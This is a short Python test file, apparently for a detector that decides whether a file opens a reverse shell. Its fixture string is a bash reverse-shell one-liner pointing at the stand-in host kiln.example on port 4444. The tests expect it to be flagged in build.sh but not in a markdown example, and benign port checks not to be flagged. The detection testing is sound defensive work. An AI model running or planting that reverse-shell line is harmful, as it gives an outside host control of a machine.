from knownhands.records import Answer

SHELL = "bash -i >& /dev/tcp/kiln.example/4444 0>&1\n"


def test_a_shell_for_somebody_else_is_told(ask):
    finding = ask("opens_a_reverse_shell", "build.sh", SHELL)
    assert finding.answer is Answer.YES
    assert (finding.evidence[0].ref, finding.evidence[0].line) == ("build.sh", 1)


def test_a_look_whether_a_port_is_open_is_not(ask):
    text = "until (exec 3<>/dev/tcp/localhost/5432) 2>/dev/null; do sleep 1; done\nnc -z kiln.example 80\n"
    assert ask("opens_a_reverse_shell", "build.sh", text).answer is Answer.NO


def test_an_example_of_one_in_a_document_is_not(ask):
    assert ask("opens_a_reverse_shell", "docs/shells.md", f"```sh\n{SHELL}```\n").answer is Answer.NO
